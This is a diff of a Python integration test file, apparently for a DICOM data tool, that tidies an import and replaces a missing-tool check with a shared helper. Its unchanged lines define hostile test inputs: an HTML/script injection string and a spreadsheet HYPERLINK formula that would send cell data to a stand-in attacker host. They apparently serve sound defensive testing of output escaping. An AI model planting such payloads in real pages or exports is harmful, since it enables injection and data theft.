@@ -15,7 +15,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import os
 import re
 import shutil
 import time
@@ -30,6 +29,7 @@ import pytest
 
 from tests import web_support as ws
 from tests.integration.netpeers import REPO, Served, dicomlake, free_port, storescu
+from tests.support import missing
 
 HTML = "</script><h1 id=pwned>INJECTED</h1><form action=/x><input name=q></form>"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
@@ -41,9 +41,7 @@ NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")
 
 def _need(tool: str) -> None:
     if shutil.which(tool) is None:
-        if os.environ.get("CI") == "true":
-            pytest.fail(f"{tool} missing (util/install-deb.sh installs dcmtk)")
-        pytest.skip(f"{tool} missing (apt-get install dcmtk)")
+        missing(f"{tool} missing (util/install-deb.sh installs dcmtk)")
 
 
 def _hostile_files(folder: Path) -> dict[str, Path]:
